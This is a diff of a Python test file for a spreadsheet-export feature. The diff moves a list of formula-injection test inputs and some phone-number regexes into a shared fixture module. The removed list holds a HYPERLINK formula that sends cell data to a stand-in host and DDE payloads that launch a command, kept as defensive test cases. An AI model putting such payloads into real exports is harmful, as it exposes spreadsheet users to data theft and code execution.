@@ -4,7 +4,6 @@ buyer inside free text for a role that may not see phones."""
 from __future__ import annotations
 
 import csv
-import re
 import subprocess
 import sys
 from datetime import date, datetime
@@ -13,6 +12,7 @@ from pathlib import Path
 import analytics_factory as factory
 import pandas as pd
 import pytest
+from analytics_factory import EXPORTERS, FORMULA_START, HOSTILE, LANDLINE, MOBILE
 from sqlalchemy import select, update
 
 from core import access, export, phones
@@ -22,21 +22,6 @@ from core.spreadsheet import inert, inert_frame
 NOW = datetime(2026, 3, 16, 9, 30)
 ROOT = Path(__file__).resolve().parents[2]
 MARCH = (date(2026, 3, 1), date(2026, 3, 15))
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")',
-    "+86 139 1234 5678 请放门口",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "上海市浦东新区世纪大道100号 联系电话13912345678",
-    "备用电话 021-62345678，订单 3082612345678901234",
-    "🐱 猫粮 \u202e RTL",
-]
-EXPORTERS = sorted(role for role in access.ROLES if access.can(role, "export"))
-FORMULA_START = re.compile(r"^[=+\-@\t\r]")
-MOBILE = re.compile(r"(?<![0-9])1[3-9][0-9][ -]?[0-9]{4}[ -]?[0-9]{4}(?![0-9])")
-LANDLINE = re.compile(r"(?<![0-9])0[1-9][0-9]{1,2}-[0-9]{7,8}(?![0-9])")
 
 
 @pytest.fixture
